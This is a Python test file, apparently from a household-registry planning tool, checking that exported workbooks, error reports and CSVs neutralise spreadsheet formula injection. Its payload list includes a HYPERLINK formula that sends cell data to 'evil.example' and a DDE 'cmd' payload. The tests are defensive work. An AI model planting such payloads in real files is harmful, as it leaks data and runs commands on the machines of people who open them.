"""No workbook or CSV the project writes holds a live formula from its input (OWASP CSV Injection).

A registry file is outside input: a head of family "named" ``=HYPERLINK(…)`` or an id ``@SUM(…)``
must reach the facilitator's workbook, the error report and every CSV as inert text (prefixed
with ``'``), never as a formula.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from typer.testing import CliRunner

from tuntas.cli import app
from tuntas.spreadsheets import FORMULA_TRIGGERS, neutralise, open_workbook, write_cell, write_csv
from tuntas.synth import synthesize, write_result
from tuntas.web.imports.services import import_file

pytestmark = pytest.mark.django_db(transaction=True)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def live_cells(path: Path) -> list[str]:
    """Every cell of every sheet that is a formula or text that a spreadsheet would run."""
    book = openpyxl.load_workbook(path)
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f" or (
                    isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)
                ):
                    found.append(f"{sheet.title}!{cell.coordinate}={value!r}")
    return found


def live_fields(path: Path) -> list[str]:
    """Fields that start like a formula; a plain number such as ``-5`` is data, not a formula."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [
            f
            for row in csv.reader(handle)
            for f in row
            if f.startswith(FORMULA_TRIGGERS) and not re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", f)
        ]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise(payload: str) -> None:
    assert neutralise(payload) == "'" + payload
    assert not neutralise(payload).startswith(FORMULA_TRIGGERS)


def test_writers_never_write_formulas(tmp_path: Path) -> None:
    book_path = tmp_path / "b.xlsx"
    book = open_workbook(book_path)
    sheet = book.add_worksheet("x")
    for i, payload in enumerate(PAYLOADS):
        write_cell(sheet, i, 0, payload)
        sheet.write(i, 1, payload)  # even xlsxwriter's own write() keeps strings as strings
    write_cell(sheet, 0, 2, -5.0)
    book.close()
    found = live_cells(book_path)
    assert all(cell.startswith("x!B") for cell in found)  # only the unprefixed, inert strings
    loaded = openpyxl.load_workbook(book_path)["x"]
    assert all(loaded.cell(i + 1, 2).data_type == "s" for i in range(len(PAYLOADS)))
    assert loaded["C1"].value == -5
    frame = pl.DataFrame({"text": PAYLOADS, "number": list(range(-3, 3))})
    write_csv(frame, tmp_path / "f.csv")
    assert live_fields(tmp_path / "f.csv") == []
    assert ",-3\n" in (tmp_path / "f.csv").read_text()  # numbers stay numbers


@pytest.fixture(scope="module")
def hostile_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    result = synthesize("33.10", seed=4, scale=0.01)
    write_result(result, folder, xlsx=False)
    households = pl.read_parquet(folder / "households.parquet")
    wedi = households.filter(pl.col("region_code").str.starts_with("33.10.03"))["household_id"]
    names = {hid: PAYLOADS[i % len(PAYLOADS)] for i, hid in enumerate(wedi.to_list())}
    households.with_columns(
        pl.col("household_id").replace_strict(names, default=pl.col("head_name")).alias("head_name")
    ).write_parquet(folder / "households.parquet")
    return folder


def test_revealed_targets_workbook_holds_no_live_formula(hostile_dir: Path, tmp_path: Path) -> None:
    for kind in ("households", "persons", "survey", "villages"):
        assert import_file(kind, hostile_dir / f"{kind}.parquet").ok, kind
    book = tmp_path / "daftar.xlsx"
    result = CliRunner().invoke(
        app,
        [
            "targets",
            "--region",
            "33.10.03",
            "--out",
            str(book),
            "--reveal",
            "--purpose",
            "uji keamanan lembar kerja",
            "--actor",
            "Penguji",
        ],
    )
    assert result.exit_code == 0, result.output
    assert live_cells(book) == []
    names = [
        c.value
        for c in openpyxl.load_workbook(book)["Daftar Calon"]["E"]
        if isinstance(c.value, str) and c.value.startswith("'")
    ]
    assert names  # the payloads are there, as inert text


def test_error_report_holds_no_live_formula(tmp_path: Path) -> None:
    bad = tmp_path / "k.csv"
    rows = ["ID Keluarga;Kode Kemendagri;Desil Kesejahteraan;Jumlah Anggota Keluarga"]
    rows += [f"K{i};3310032006;{payload};3" for i, payload in enumerate(PAYLOADS[:4])]
    bad.write_text("\n".join(rows) + "\n", encoding="utf-8")
    outcome = import_file("households", bad, preset="p3ke")
    assert not outcome.ok and outcome.report_path
    report = Path(outcome.report_path)
    assert live_fields(report) == []
    assert "'=HYPERLINK" in report.read_text(encoding="utf-8-sig")


def test_plan_files_hold_no_live_formula(tmp_path: Path) -> None:
    """Enterprise ids and names from input reach the plan's tables, CSVs and workbook inert."""
    data = tmp_path / "d"
    write_result(synthesize("33.10", seed=2, scale=0.03), data, xlsx=False)
    for name in ("enterprises", "persons"):
        frame = pl.read_parquet(data / f"{name}.parquet")
        if name == "enterprises":
            frame = frame.with_columns(("=E" + pl.col("enterprise_id")).alias("enterprise_id"))
        else:
            frame = frame.with_columns(("@" + pl.col("name").fill_null("x")).alias("name"))
        frame.write_parquet(data / f"{name}.parquet")
        (data / f"{name}.csv").unlink()
    out = tmp_path / "p"
    result = CliRunner().invoke(
        app,
        [
            "plan", "--region", "33.10", "--from", str(data), "--out", str(out),
            "--budget", "kur_subsidy=600 juta", "--budget", "training=120 juta", "--runs", "0",
        ],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    allocations = pl.read_parquet(out / "allocations.parquet")
    assert allocations.height and allocations["enterprise_id"].str.starts_with("=E").all()
    assert live_cells(out / "rencana.xlsx") == []
    for csv_file in out.glob("*.csv"):
        assert live_fields(csv_file) == [], csv_file.name
